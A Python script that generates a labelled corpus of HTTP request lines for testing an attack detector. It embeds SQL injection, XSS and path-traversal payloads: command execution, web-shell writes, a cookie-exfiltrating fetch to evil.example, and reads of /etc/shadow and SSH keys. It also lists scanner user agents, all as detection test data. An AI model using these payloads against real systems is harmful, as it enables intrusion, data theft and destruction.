#!/usr/bin/env python3
"""Builds corpus.tsv, the labelled request corpus of AttackDetectionTests (see README.md).

Inputs (read-only): a checkout of github.com/libinjection/libinjection (its data/ directory:
test payloads, BSD-3-Clause) given as LIBINJECTION=<git dir or work tree>, and Debian's
modsecurity-crs (/usr/share/modsecurity-crs/rules, Apache-2.0). Deterministic (seed 16).

    LIBINJECTION=/path/to/libinjection python3 make_corpus.py > corpus.tsv
"""
import os, random, subprocess, sys, urllib.parse

rng = random.Random(16)
LIB = os.environ.get("LIBINJECTION", "/work/.mirror/libinjection+libinjection/repo")
CRS = "/usr/share/modsecurity-crs/rules"

def lib_file(name):
    try:
        text = subprocess.run(["git", "-C", LIB, "show", "HEAD:data/" + name], capture_output=True, check=True).stdout
    except subprocess.CalledProcessError:
        path = os.path.join(LIB, "data", name)
        text = open(path, "rb").read() if os.path.exists(path) else b""  # absent from the snapshot
    out = []
    for line in text.decode("utf-8", "replace").splitlines():
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        out.append(line)
    return out

def nginx_escape(s):
    """What nginx writes for a request-line byte: `"`, `\\`, controls and >= 0x7F as \\xHH."""
    out = []
    for b in s.encode("utf-8", "replace"):
        if b == 0x22 or b == 0x5C or b < 0x20 or b >= 0x7F:
            out.append("\\x%02X" % b)
        else:
            out.append(chr(b))
    return "".join(out)

def pct(s, safe=""):
    return urllib.parse.quote(s, safe=safe)

def encodings(payload, html=False):
    """The forms real clients send one decoded payload in."""
    forms = {
        "raw": payload,
        "percent": pct(payload),
        "plus": urllib.parse.quote_plus(payload),
        "double": pct(pct(payload)),
        "mixed": "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in payload),
        "browser": pct(payload, safe="/:=,@!$*()'"),
    }
    if html:
        forms["entity"] = "".join("&#%d;" % ord(c) if c in "<>\"'" else c for c in payload)
        forms["hexentity"] = "".join("&#x%x;" % ord(c) if c in "<>\"'()" else c for c in payload)
    return forms

HOSTS = ["shop.example.com", "www.example.org", "blog.example.net"]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "curl/7.88.1", "python-requests/2.32.3",
]
SQL_SPOTS = [("/item.php", "id"), ("/products", "id"), ("/news/view.php", "article"), ("/search", "q"),
             ("/index.php", "cat"), ("/login", "username"), ("/api/v1/users", "sort"), ("/shop/list.asp", "category")]
XSS_SPOTS = [("/search", "q"), ("/comment", "text"), ("/profile", "name"), ("/redirect", "url"), ("/", "s"),
             ("/guestbook.php", "message"), ("/error", "msg")]
FILE_SPOTS = [("/index.php", "page"), ("/download.php", "file"), ("/view", "template"), ("/show.php", "path"),
              ("/include.php", "inc"), ("/image", "src")]

rows = []
def row(labels, path, query="", ua=None, referer="-", method="GET", source=""):
    ua = ua if ua is not None else rng.choice(UAS)
    for field in (path, query, ua, referer):
        assert "\t" not in field and "\n" not in field
    rows.append("\t".join([labels, method, path, query, ua, referer, source]))

def in_query(payload_form, spots, extra=True):
    path, name = rng.choice(spots)
    query = "%s=%s" % (name, payload_form)
    if extra and rng.random() < 0.4:
        query = rng.choice(["lang=en&", "page=1&", ""]) + query + rng.choice(["&sort=asc", "&utm_source=mail", ""])
    return path, query

# ---- SQL injection ---------------------------------------------------------------------------
skip = {"sqli-arithmetic_blind_sqli.txt", "sqli-arithmetic_variations.txt", "sqli-forums.txt",
        "sqli-comparitiveprecomputation.txt"}
names = subprocess.run(["git", "-C", LIB, "ls-tree", "--name-only", "HEAD", "data/"], capture_output=True, text=True).stdout.split()
for name in sorted(n.split("/")[-1] for n in names):
    if not name.startswith("sqli-") or name in skip:
        continue
    for payload in lib_file(name):
        # libinjection's data is the URL-encoded form; nginx logs it escaped.
        path, query = in_query(nginx_escape(payload), SQL_SPOTS)
        row("sqli", path, query, source="libinjection:" + name)
forums = lib_file("sqli-forums.txt")
for payload in rng.sample(forums, 500):
    path, query = in_query(nginx_escape(payload), SQL_SPOTS)
    row("sqli", path, query, source="libinjection:sqli-forums.txt(sample)")

OWN_SQLI = [
    "1' or '1'='1", "1' or '1'='1'--", "' or ''='", "admin'--", "admin'#", "admin' or 1=1--", "' union select null,null--",
    "1 union all select username,password from users", "-1 union select 1,@@version,3", "1;drop table users",
    "1; drop table users--", "1 and sleep(5)", "1' and sleep(5)--", "1) and sleep(5)#", "1 and benchmark(5000000,md5(1))",
    "1 and 1=1--", "1 and 1=2", "1' and '1'='2", "1 or 1=1", "x' or 'x'='x", "1'/**/or/**/'1'='1", "1/**/union/**/select/**/1,2",
    "1' union select table_name from information_schema.tables--", "1 and (select count(*) from information_schema.columns)>0",
    "1' and extractvalue(1,concat(0x7e,version()))--", "1' and updatexml(1,concat(0x7e,user()),1)--",
    "1; waitfor delay '0:0:5'--", "1'; exec master..xp_cmdshell 'ping 10.0.0.1'--", "1 order by 10--", "1' order by 3#",
    "1' group by 1,2--", "1' having 1=1--", "' or 1=1 limit 1--", "1 and ascii(substring((select user()),1,1))>64",
    "1' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)--",
    "1' into outfile '/var/www/shell.php'--", "1' or pg_sleep(5)--", "1;select pg_sleep(5)", "0x31 union select 0x41",
    "1' or @@version like '5%", "1' || '1'='1", "1 || 1=1", "1' && '1'='1", "' or true--", "1' or 'a'='a", "\") or (\"1\"=\"1",
    "1\" or \"1\"=\"1", "1)) or ((1=1", "-1' /*!50000union*/ /*!50000select*/ 1,2,3--", "1' AnD SlEeP(5)-- -",
    "1; insert into users values('x','y')--", "1; update users set role='admin' where id=1--", "1;shutdown--",
    "1' and 1=(select count(*) from sysobjects)--", "1 and randomblob(500000000)", "1' and load_file('/etc/passwd')--",
    "1;declare @s varchar(99) set @s=0x41 exec(@s)--", "1' and dbms_pipe.receive_message('a',5)=1--", "(select sleep(5))",
    "if(1=1,sleep(5),0)", "1 rlike (select (case when (1=1) then 1 else 0x28 end))", "1' and 1 in (select @@version)--",
    "-1 or 1=1", "1'||(select version())||'", "1' and char(65)=char(65)--", "1 and exp(~(select * from (select user())a))",
]
enc_count = {"raw": 0}
for payload in OWN_SQLI:
    for form_name, form in encodings(payload).items():
        if form_name in ("raw", "mixed"):
            form = nginx_escape(form)
        path, query = in_query(form, SQL_SPOTS)
        row("sqli", path, query, source="own:" + form_name)
# SQL injection in the path (REST style) and in the referer.
for payload in OWN_SQLI[:20]:
    row("sqli", "/products/" + pct(payload, safe="'()=,*"), source="own:path")
    row("sqli", "/", "", referer="https://www.example.org/search?q=" + pct(payload), source="own:referer")

# ---- XSS -------------------------------------------------------------------------------------
for name in sorted(n.split("/")[-1] for n in names):
    if not name.startswith("xss-"):
        continue
    for payload in lib_file(name):
        if name == "xss-html5secorg.txt":
            if not payload.startswith("test "):
                continue
            payload = payload.split(" ", 2)[2] if payload.count(" ") >= 2 else ""
        if not payload:
            continue
        # libinjection's XSS data is the decoded payload: a browser percent-encodes it.
        path, query = in_query(pct(payload, safe="/:=,@!$*()'"), XSS_SPOTS)
        row("xss", path, query, source="libinjection:" + name)

OWN_XSS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</ScRiPt>", "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src=x onerror=alert(1)//", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe src=//evil.example/x>",
    "javascript:alert(1)", "JaVaScRiPt:alert(document.domain)", "java\tscript:alert(1)", " javascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<a href=\"javascript:alert(1)\">x</a>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus x='", "\" autofocus onfocus=alert(1) x=\"",
    "<div style=\"width:expression(alert(1))\">", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=data:text/html,<script>alert(1)</script>>",
    "';alert(1)//", "\";alert(1);//", "'-alert(1)-'", "</script><script>alert(1)</script>", "<math><mtext><script>alert(1)",
    "<marquee onstart=alert(1)>", "<a href=\"jav&#x09;ascript:alert(1)\">", "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x", "<svg><animate onbegin=alert(1) attributeName=x>", "<x onclick=alert(1)>click",
    "<img src=1 onerror=fetch('//evil.example/?c='+document.cookie)>", "<body/onpageshow=alert(1)>", "\"><img src=x onerror=prompt(1)>",
]
for payload in OWN_XSS:
    for form_name, form in encodings(payload, html=True).items():
        if form_name in ("raw", "mixed", "entity", "hexentity"):
            form = nginx_escape(form)
        path, query = in_query(form, XSS_SPOTS)
        row("xss", path, query, source="own:" + form_name)
for payload in OWN_XSS[:15]:
    row("xss", "/search/" + pct(payload, safe="/:=()'"), source="own:path")
    row("xss", "/", "", referer="https://www.example.org/?q=" + pct(payload), source="own:referer")

# ---- Traversal / file inclusion ---------------------------------------------------------------
TRAVERSAL_PATHS = [
    "/../../etc/passwd", "/../../../../../../etc/shadow", "/static/../../../etc/passwd", "/images/../../../../windows/win.ini",
    "/a/b/../../../../boot.ini", "/cgi-bin/../../../../bin/sh", "/files/..\\..\\..\\windows\\win.ini",
    "/download/....//....//....//etc/passwd", "/..;/..;/etc/passwd", "/static/.../.../.../etc/passwd",
]
for p in TRAVERSAL_PATHS:
    for form_name, form in encodings(p).items():
        if form_name in ("plus",):
            continue
        if form_name != "raw":
            form = "/" + form.lstrip("/") if form_name == "mixed" else form.replace("%2F", "/", 1)
        if form_name in ("raw", "mixed"):
            form = nginx_escape(form)
        if form_name in ("percent", "double", "browser") and not form.startswith("/"):
            form = "/" + form
        row("traversal", form, "", source="own:path-" + form_name)
    for trick in ["%2e%2e%2f", "%2e%2e/", "..%2f", "%2e%2e%5c", "..%c0%af", "..%c1%9c", "%252e%252e%252f", "..%255c", "%c0%ae%c0%ae/"]:
        climbing = p.replace("../", trick).replace("..\\", trick)
        row("traversal", climbing, "", source="own:path-trick")
FILE_VALUES = [
    "../../../../etc/passwd", "../../../etc/passwd%00", "....//....//....//etc/passwd", "/etc/passwd", "/etc/shadow",
    "/proc/self/environ", "../../../../proc/self/cmdline", "c:\\windows\\win.ini", "C:/boot.ini", "..\\..\\..\\boot.ini",
    "php://filter/convert.base64-encode/resource=index.php", "php://input", "file:///etc/passwd", "expect://id",
    "phar://uploads/avatar.jpg/shell", "zip://uploads/a.zip#shell.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "../../../../../../../../var/log/apache2/access.log", "../../../wp-config.php", "../../.ssh/id_rsa", "../../../../../../",
    "/var/www/html/.htpasswd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc/passwd",
]
for v in FILE_VALUES:
    for form_name, form in encodings(v).items():
        if form_name in ("raw", "mixed"):
            form = nginx_escape(form)
        path, query = in_query(form, FILE_SPOTS)
        row("traversal", path, query, source="own:value-" + form_name)
for line in [l.strip() for l in open(os.path.join(CRS, "lfi-os-files.data")) if l.strip() and not l.startswith("#")][:0]:
    pass

# ---- Scanners ---------------------------------------------------------------------------------
crs_agents = [l.strip() for l in open(os.path.join(CRS, "scanners-user-agents.data")) if l.strip() and not l.startswith("#")]
SCANNER_PATHS = ["/", "/wp-login.php", "/.env", "/admin/", "/phpmyadmin/", "/robots.txt", "/index.php", "/cgi-bin/test.cgi"]
for agent in crs_agents:
    for template in ["%s", "Mozilla/5.0 (compatible; %s/1.0)", "%s/2.1.3 (+https://tool.example)"]:
        row("scanner", rng.choice(SCANNER_PATHS), "", ua=nginx_escape(template % agent), source="crs:scanners-user-agents.data")
REAL_SCANNERS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36 Netsparker",
    "Fuzz Faster U Fool v2.1.0-dev", "gobuster/3.6", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Acunetix-Product WVS",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Wfuzz/3.1.0", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)", "Arachni/v1.5.1", "commix/v3.9 (https://commixproject.com)",
]
for agent in REAL_SCANNERS:
    for p in rng.sample(SCANNER_PATHS, 3):
        row("scanner", p, "", ua=nginx_escape(agent), source="own:scanner")
# Combined: a scanner that sends an injection.
for payload in OWN_SQLI[:10]:
    path, query = in_query(pct(payload), SQL_SPOTS)
    row("sqli,scanner", path, query, ua="sqlmap/1.7.2#stable (https://sqlmap.org)", source="own:combined")

# ---- Benign look-alikes -----------------------------------------------------------------------
for value in lib_file("false_positives.txt"):
    row("clean", "/search", "q=" + urllib.parse.quote_plus(value), source="libinjection:false_positives.txt")
LOOKALIKE_QUERIES = [
    "q=union+station", "q=Union+Station+Chicago", "q=select+chair", "q=SELECT+comfort+sleep+number", "q=javascript+tutorial",
    "q=javascript%3A+the+good+parts", "q=onerror+handler", "q=onload+event", "q=drop+shipping+table+lamps", "q=cats+and+dogs",
    "q=rock+%27n%27+roll", "q=o%27reilly+books", "author=O%27Brien&title=The+Alert+Reader", "q=1-2", "expr=1-1", "q=3*4%2B5",
    "email=jane.doe%40example.com", "email=bob%2Bnews@example.org", "date=2024-01-15", "from=2024-01-01&to=2024-12-31",
    "q=where+is+george", "q=insert+coin", "q=update+firmware", "q=delete+account", "q=order+by+price", "sort=price&order=desc",
    "q=black+or+white", "q=true+or+false+quiz", "q=1+or+2+people", "q=sleep+apnea", "q=benchmark+results",
    "q=%22hello+world%22", "q=it%27s+a+trap", "q=don%27t+stop", "q=5%27+11%22+tall", "q=the+%3Cb%3E+tag", "comment=I+%3Cb%3Elove%3C%2Fb%3E+it",
    "comment=a+%3C+b+and+c+%3E+d", "comment=%3C3+you", "q=how+to+use+script+tags", "q=alert+dialog+css",
    "q=%28select+one%29", "q=version+1.2.3", "q=table+of+contents", "callback=jQuery123_456", "json=%7B%22a%22%3A1%2C%22b%22%3A%5B1%2C2%5D%7D",
    "filter=%7B%22price%22%3A%7B%22%24lt%22%3A100%7D%7D", "q=c%2B%2B+tutorial", "q=c%23+generics", "q=50%25+off",
    "redirect=%2Faccount%2Fsettings", "next=https%3A%2F%2Fexample.com%2Fa%2Fb", "url=https://www.example.org/a?b=c",
    "token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "sig=" + "A" * 10 + "b64%2Bslash%2Fpad%3D%3D", "_ga=GA1.2.1234567890.1700000000&_gid=GA1.2.987654321.1700000000",
    "utm_source=google&utm_medium=cpc&utm_campaign=spring_sale&utm_term=running+shoes&utm_content=ad1",
    "fbclid=IwAR2xYz_abc-123", "gclid=Cj0KCQiA1234_abcd-EFGH", "q=select+all+that+apply", "q=union+select+committee",
    "q=drop+table+tennis", "q=1%3B2%3B3", "ids=1,2,3,4", "q=java+vs+javascript", "q=%2Fetc%2Fhosts+file+format",
    "path=docs/guide/intro.md", "file=report-2024.pdf", "q=..%2F+relative+paths", "q=%40%40+in+markdown", "q=user%40host",
    "q=a%3Db", "q=x%3D1", "q=if+(x)+then", "q=sleep(5)+minutes", "q=count+(words)", "q=mr+%26+mrs+smith", "q=AT%26T",
    "title=Tom+%26+Jerry", "q=salt+%26+pepper", "q=%3Ci%3Eitalic%3C%2Fi%3E", "q=semi%3Bcolon", "q=--help", "q=a--b",
    "q=%23hashtag", "q=100%25", "note=see+%22chapter+1%22", "q=O%27Neil+%26+sons", "name=D%27Angelo", "city=Coeur+d%27Alene",
]
LOOKALIKE_PATHS = [
    "/authors/o'reilly", "/products/select-comfort-mattress", "/blog/union-station-history", "/blog/how-to-use-script-tags",
    "/docs/javascript-tutorial", "/tags/c%2B%2B", "/wiki/Drop_table", "/blog/../images/a.png", "/a/b/../c/d.html",
    "/static/js/app.min.js", "/caf\\xC3\\xA9/menu", "/search/%22quoted%22", "/files/report%20(final).pdf",
    "/users/john.doe@example.com", "/products/1-2-3", "/news/2024/01/15/sleep-well", "/p/select-or-update",
    "/wiki/Special:Search", "/a;jsessionid=ABC123", "/products/5'11-inch-shelf", "/en/alert-settings",
]
for q in LOOKALIKE_QUERIES:
    for p in rng.sample(["/search", "/", "/products", "/api/v1/search", "/blog"], 2):
        row("clean", p, q, source="own:lookalike-query")
for p in LOOKALIKE_PATHS:
    row("clean", p, "", source="own:lookalike-path")
LOOKALIKE_REFERERS = [
    "../images/a.png", "https://www.example.org/blog/post/../images/a.png", "https://www.google.com/search?q=union+station&hl=en",
    "https://www.example.org/search?q=o%27reilly", "https://www.example.org/?utm_source=newsletter&utm_medium=email",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fexample.org%2F&h=AT0abc", "https://www.bing.com/search?q=javascript+tutorial",
    "android-app://com.google.android.gm/", "https://example.org/a/b/c/../../d",
]
for r in LOOKALIKE_REFERERS:
    for p in rng.sample(["/", "/products/42", "/blog/post-1", "/images/a.png"], 2):
        row("clean", p, "", referer=r, source="own:lookalike-referer")
BENIGN_UAS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "facebookexternalhit/1.1", "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Mobile Safari/537.36",
    "Wget/1.21.3", "okhttp/4.12.0", "Go-http-client/2.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "UptimeRobot/2.0 (http://www.uptimerobot.com/)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0 Safari/537.36 Edge/13.10586",
    "Mozilla/5.0 \\x22quoted\\x22 agent", "Mozilla/5.0 (Linux; U; Android 4.4.2; it-it; SM-T530) Version/4.0 Safari/537.36",
]
for u in BENIGN_UAS:
    row("clean", rng.choice(["/", "/products/42", "/robots.txt"]), "", ua=u, source="own:benign-agent")

print("# edgelog attack-detection corpus; generated by make_corpus.py (see README.md). Columns:")
print("# labels\tmethod\tpath\tquery\tuser-agent\treferer\tsource")
for r in rows:
    print(r)
print("%d rows" % len(rows), file=sys.stderr)
